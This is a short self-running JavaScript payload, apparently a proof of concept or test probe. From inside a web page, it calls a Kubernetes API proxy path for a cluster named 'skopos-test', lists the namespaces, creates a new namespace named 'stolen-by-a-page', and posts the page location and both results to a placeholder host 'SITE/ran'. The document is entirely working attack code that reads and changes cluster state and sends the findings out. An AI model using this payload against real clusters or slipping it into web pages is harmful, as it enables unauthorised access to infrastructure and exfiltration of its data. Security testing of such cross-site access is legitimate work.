(function () {
  function ask(method, url, body) {
    try {
      var request = new XMLHttpRequest();
      request.open(method, url, false);
      if (body) request.setRequestHeader("content-type", "application/json");
      request.send(body);
      return request.status + " " + request.responseText.slice(0, 200);
    } catch (error) { return String(error); }
  }
  var object = JSON.stringify({ apiVersion: "v1", kind: "Namespace", metadata: { name: "stolen-by-a-page" } });
  var read = ask("GET", "/clusters/skopos-test/api/v1/namespaces");
  var made = ask("POST", "/clusters/skopos-test/api/v1/namespaces", object);
  var report = new XMLHttpRequest();
  report.open("POST", "SITE/ran", false);
  report.send(location + ": read " + read + "; made " + made);
})();
